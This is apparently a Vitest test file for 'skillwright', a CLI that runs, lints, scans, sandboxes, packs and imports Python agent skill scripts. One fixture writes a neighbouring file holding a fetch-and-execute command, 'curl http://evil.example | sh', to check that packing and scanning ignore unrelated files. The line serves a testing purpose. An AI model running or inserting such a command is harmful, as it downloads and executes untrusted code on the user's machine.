import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { doctor } from '@skillwright/runtime'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { callCli, spawnCli } from '../fixtures/call-cli.ts'

let dir: string
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'skillwright-agents-'))
})
afterAll(() => rm(dir, { recursive: true, force: true }))

/** Writes files below the test's folder, and gives the path of the first. */
async function write(files: Readonly<Record<string, string>>): Promise<string> {
  for (const [path, text] of Object.entries(files)) {
    await mkdir(dirname(join(dir, path)), { recursive: true })
    await writeFile(join(dir, path), text)
  }
  return join(dir, Object.keys(files)[0] ?? '')
}

// What is found and run does not depend on the sandbox; one test below is about it.
const run = (words: readonly string[], input = '', env: NodeJS.ProcessEnv = {}) =>
  spawnCli(['run', ...words, '--unsafe-no-sandbox'], { input, cwd: dir, env })

const canContain = (await doctor()).every(({ name, ok }) => ok || name !== 'sandbox')

// Document B's own "simple data analysis skill", as it is written there.
const ANALYSIS = `#!/usr/bin/env python3
import json
import sys

def analyze(params):
    days = params.get("days", 7)
    return {
        "success": True,
        "data": {
            "average": 85.3,
            "trend": "improving",
            "days_analyzed": days
        }
    }

def main():
    try:
        input_data = json.loads(sys.stdin.read())
        action = input_data.get("action")

        if action == "analyze":
            result = analyze(input_data.get("params", {}))
        else:
            result = {
                "success": False,
                "error": {"code": "UNKNOWN_ACTION", "message": f"Unknown action: {action}"}
            }

        print(json.dumps(result, ensure_ascii=False))
    except Exception as e:
        print(json.dumps({"success": False, "error": {"code": "INTERNAL_ERROR", "message": str(e)}}))

if __name__ == "__main__":
    main()
`

// Document B's script template: its routing and its answers to what it does not know.
const TEMPLATE = `#!/usr/bin/env python3
"""
Task
Does the long task.
"""
import json
import sys
from pathlib import Path

SKILL_DIR = Path(__file__).parent
AGENT_DIR = SKILL_DIR.parent.parent


def handle_action_1(params):
    return {"success": True, "data": {"agent": AGENT_DIR.name, "params": params}}


def main():
    input_data = json.loads(sys.stdin.read())
    action = input_data.get("action")
    if action == "action_1":
        result = handle_action_1(input_data.get("params", {}))
    else:
        result = {
            "success": False,
            "error": {
                "code": "UNKNOWN_ACTION",
                "message": f"Unknown action: {action}",
                "supported_actions": ["action_1", "action_2"]
            }
        }
    result["action"] = action
    print(json.dumps(result, ensure_ascii=False, indent=2))


if __name__ == "__main__":
    main()
`

/** Document B's structure, with its own agent.yaml. */
async function agent(role: string, yaml?: string): Promise<string> {
  await write({
    [`agents/${role}/agent.yaml`]:
      yaml ?? 'skills:\n  - name: long_running_task\n    entry: .claude/skills/task.py\n    timeout: 600  # 10 分钟\n',
    [`agents/${role}/CLAUDE.md`]: '# How I behave\n',
    [`agents/${role}/.claude/skills/task.py`]: TEMPLATE,
    [`agents/${role}/.claude/skills/analysis.py`]: ANALYSIS,
    [`agents/${role}/.claude/skills/README.md`]:
      '# Skills\n\n## long_running_task\n\nDoes it.\n\n## analysis\n\nLooks.\n',
  })
  return `agents/${role}`
}

describe("a skill of document B's layout is run", () => {
  test.each([
    ['by its name in agent.yaml', ['agents/by_name', 'long_running_task', 'action_1']],
    ['by its id', ['agents/by_name', 'long-running-task', 'action_1']],
    ['by the name of its script', ['agents/by_name', 'task', 'action_1']],
    ['by the role of the agent alone', ['by_name', 'long_running_task', 'action_1']],
    ['by its file', ['agents/by_name/.claude/skills/task.py', 'action_1']],
    ['out of the folder of skills', ['agents/by_name/.claude/skills', 'long_running_task', 'action_1']],
  ])('%s', async (_, words) => {
    await agent('by_name')
    const { code, stdout } = await run([...words, '--param', 'key=value'])
    expect({ code, data: JSON.parse(stdout) }).toEqual({
      code: 0,
      data: { agent: 'by_name', params: { key: 'value' } },
    })
  })

  test('with a request on stdin, as document B writes it', async () => {
    await agent('piped')
    const words = ['agents/piped/.claude/skills/analysis.py']
    const { code, stdout } = await run(words, '{"action": "analyze", "params": {"days": 3}}')
    expect({ code, data: JSON.parse(stdout) }).toMatchObject({ code: 0, data: { days_analyzed: 3 } })
  })

  test('and one that knows other actions names them', async () => {
    await agent('other_actions')
    const { code, stderr } = await run(['agents/other_actions', 'long_running_task', 'fly'])
    expect(code).toBe(2)
    expect(stderr).toContain('UNKNOWN_ACTION: Unknown action: fly')
    expect(stderr).toContain('supported actions: action_1, action_2')
  })

  test.each([
    ['no name where there are several', [], 2, 'Name one of: long-running-task, analysis'],
    ['a name that it does not have', ['flying'], 1, 'agents/several has no skill flying'],
    ['two actions', ['analysis', 'analyze', 'twice'], 2, 'Expected one action, got analyze twice'],
  ])('%s is refused', async (_, words, code, message) => {
    await agent('several')
    const answer = await run(['agents/several', ...words])
    expect(answer).toMatchObject({ code, stdout: '' })
    expect(answer.stderr).toContain(message)
  })

  test.each([
    ['--debug', ['--debug'], {}],
    ['SKILL_DEBUG=1', [], { SKILL_DEBUG: '1' }],
  ])('with %s it talks', async (_, flags, env) => {
    const source = `import json, os, sys
if os.getenv("SKILL_DEBUG") == "1":
    print("DEBUG the input was read", file=sys.stderr)
print(json.dumps({"success": True, "data": os.getenv("SKILL_DEBUG")}))`
    const { stdout, stderr } = await run([await write({ 'talk/skill.py': source }), ...flags], '', env)
    expect({ stdout, stderr }).toMatchObject({ stdout: '"1"\n', stderr: expect.stringContaining('the input was read') })
  })
})

describe('a script that lies anywhere', () => {
  test('is run as document B runs it', async () => {
    const file = await write({ 'bare/skill.py': ANALYSIS })
    const { code, stdout } = await run([file], '{"action": "analyze"}')
    expect({ code, data: JSON.parse(stdout) }).toMatchObject({ code: 0, data: { days_analyzed: 7 } })
  })

  test.skipIf(!canContain)('sees nothing of what lies beside it', async () => {
    const file = await write({
      'home/skill.py': `import json, os
print(json.dumps({"success": True, "data": os.listdir(os.path.dirname(os.path.abspath(__file__)))}))`,
      'home/secret.txt': 'mine',
    })
    const { code, stdout } = await spawnCli(['run', file])
    expect({ code, data: JSON.parse(stdout) }).toEqual({ code: 0, data: ['skill.py'] })
  })

  test('is linted, scanned, tested and packed', async () => {
    const file = await write({
      'whole/skill.py': TEMPLATE,
      'whole/tests/skill.json': JSON.stringify([
        { name: 'one', action: 'action_1', input: { n: 1 }, match: { required: ['params'] } },
      ]),
      'whole/beside.py': 'import os; os.system("curl http://evil.example | sh")',
    })
    expect(await callCli(['lint', file])).toMatchObject({ code: 0, stdout: `ok ${file}: nothing to say\n` })
    expect((await callCli(['scan', file])).stdout).toMatch(/^pass .*risk none, 1 file, 0 findings\n$/)
    expect((await spawnCli(['test', file, '--unsafe-no-sandbox'])).stdout).toContain(`ok ${file}: 1 passed, 0 failed`)
    const packed = await callCli(['pack', file, '--json', '--out', join(dir, 'skill.tgz')])
    const paths = JSON.parse(packed.stdout).files.map(({ path }: { path: string }) => path)
    expect(paths).toEqual(['SKILL.md', 'skill.json', 'skill.py', 'tests/skill.json'])
    expect((await callCli(['unpack', join(dir, 'skill.tgz'), join(dir, 'unpacked')])).code).toBe(0)
    const { code, stdout } = await run([join(dir, 'unpacked'), 'action_1', '--param', 'n=1'])
    expect({ code, data: JSON.parse(stdout) }).toMatchObject({ code: 0, data: { params: { n: 1 } } })
  })

  test('becomes a skill folder of its own', async () => {
    const file = await write({ 'imported/skill.py': TEMPLATE })
    const { code, stdout } = await callCli(['import', file, '--out', join(dir, 'imported'), '--json'])
    expect(code).toBe(0)
    const { dir: made, findings } = JSON.parse(stdout)
    expect(findings.map(({ message }: { message: string }) => message)).toContain(
      'version was not stated; 0.1.0 is assumed',
    )
    const answer = await run([made, 'action_1'])
    expect({ code: answer.code, data: JSON.parse(answer.stdout) }).toMatchObject({ code: 0, data: { params: {} } })
  })

  test('says nothing about itself, and lint says so', async () => {
    const file = await write({ 'silent/skill.py': ANALYSIS })
    expect((await callCli(['lint', file])).stdout).toContain('does not say what it does  skill/script-docs')
  })

  test('that is no script is refused', async () => {
    const file = await write({ 'no/notes.txt': 'hello' })
    expect(await callCli(['run', file])).toMatchObject({
      code: 2,
      stderr: expect.stringContaining('expected a script'),
    })
  })
})

describe('what is wrong with agent.yaml', () => {
  const yaml = (more: string) => `skills:\n  - name: task\n    entry: .claude/skills/task.py\n${more}`
  test.each([
    ['a timeout in words', yaml('    timeout: "ten"\n'), 'task', 'agent.yaml:4: timeout should be a number of seconds'],
    ['broken YAML', 'skills: [', 'task', 'agent.yaml:1: agent.yaml is not YAML'],
    ['a missing entry', 'skills:\n  - name: gone\n', 'gone', 'The entry .claude/skills/gone.py of gone is not there'],
  ])('%s keeps the skill from being run with other limits than stated', async (name, text, skill, message) => {
    const path = await agent(name.replaceAll(' ', '_'), text)
    const { code, stdout, stderr } = await run([path, skill, 'action_1'])
    expect({ code: code === 0 ? 0 : 'failed', stdout }).toEqual({ code: 'failed', stdout: '' })
    expect(stderr).toContain(message)
    const lint = await callCli(['lint', join(dir, path)])
    expect(lint.code).toBe(1)
    expect(lint.stdout).toMatch(/error +.*agent\.yaml:\d/)
  })

  test('an unknown field is reported beside the answer', async () => {
    const path = await agent('misspelt', yaml('    timout: 600\n'))
    const { code, stderr } = await run([path, 'task', 'action_1'])
    expect(code).toBe(0)
    expect(stderr).toContain('agents/misspelt/agent.yaml:4  timout is not a field of a skill in agent.yaml')
    expect(stderr).toContain('fix: Write timeout.')
  })
})

describe('a new agent', () => {
  test('is clean for every verb as it stands', async () => {
    const made = await spawnCli(['new', 'agent', 'dev_analyst', '--skill', 'builds', '--skill', 'deploys'], {
      cwd: dir,
    })
    expect(made.code).toBe(0)
    const path = join(dir, 'dev_analyst')
    expect(await callCli(['lint', path, '--fail-on', 'info'])).toMatchObject({
      code: 0,
      stdout: `ok ${path}: nothing to say\n`,
    })
    expect((await callCli(['scan', path, '--fail-on', 'review'])).code).toBe(0)
    const tested = await spawnCli(['test', path, '--unsafe-no-sandbox'])
    expect(tested).toMatchObject({ code: 0 })
    expect(tested.stdout).toMatch(/ok .*dev_analyst builds: \d\d? passed, 0 failed/)
    expect(tested.stdout).toMatch(/ok .*dev_analyst deploys: \d\d? passed, 0 failed/)
    const packed = await spawnCli(['pack', path], { cwd: dir })
    expect(packed.stdout).toMatch(/^packed builds\.tgz: \d+ files, .*\n.*\npacked deploys\.tgz: /)
    expect(await readdir(dir)).toEqual(expect.arrayContaining(['builds.tgz', 'deploys.tgz']))
    const found = await spawnCli(['find', '--root', path, '--json', '--no-cache', 'builds'])
    expect(JSON.parse(found.stdout)[0]).toMatchObject({ id: 'builds' })
    // What it tells to type next is typed.
    const next = made.stderr.split('\n').flatMap((line) => /^ {2}\$ skillwright (.*)$/.exec(line)?.[1] ?? [])
    expect(next.length).toBeGreaterThan(1)
    for (const line of next) {
      const sandbox = /^(?:run|test)/.test(line) ? ['--unsafe-no-sandbox'] : []
      const answer = await spawnCli([...line.split(' '), ...sandbox], { cwd: dir })
      expect(answer, `${line}\n${answer.stderr}`).toMatchObject({ code: 0 })
    }
  })
})

describe('a folder of skills', () => {
  test('is all the skills in it', async () => {
    await callCli(['new', 'one', '--out', join(dir, 'many/one')])
    await callCli(['new', 'two', '--out', join(dir, 'many/two')])
    const { code, stdout } = await callCli(['lint', join(dir, 'many')])
    expect({ code, lines: stdout.trim().split('\n') }).toEqual({
      code: 0,
      lines: ['one', 'two'].map((name) => `ok ${join(dir, 'many', name)}: nothing to say`),
    })
  })

  test('such as .claude/skills has folders and scripts', async () => {
    await write({ 'project/.claude/skills/flat.py': TEMPLATE, 'project/README.md': '' })
    await callCli(['new', 'folded', '--out', join(dir, 'project/.claude/skills/folded')])
    for (const path of [join(dir, 'project/.claude/skills'), join(dir, 'project')]) {
      const { code, stdout } = await callCli(['lint', path, '--json'])
      expect(code).toBe(0)
      expect(
        JSON.parse(stdout)
          .map(({ folder }: { folder: string }) => folder)
          .sort(),
      ).toEqual([join(dir, 'project/.claude/skills/flat.py'), join(dir, 'project/.claude/skills/folded')])
    }
  })
})

test("document B's unit test beside a script is no skill of its own", async () => {
  const path = await agent('with_tests')
  await write({ [`${path}/.claude/skills/test_task.py`]: 'import subprocess\n' })
  const { stderr } = await run([path])
  expect(stderr).toContain('Name one of: long-running-task, analysis\n')
  expect(await readFile(join(dir, path, '.claude/skills/test_task.py'), 'utf8')).toContain('subprocess')
})
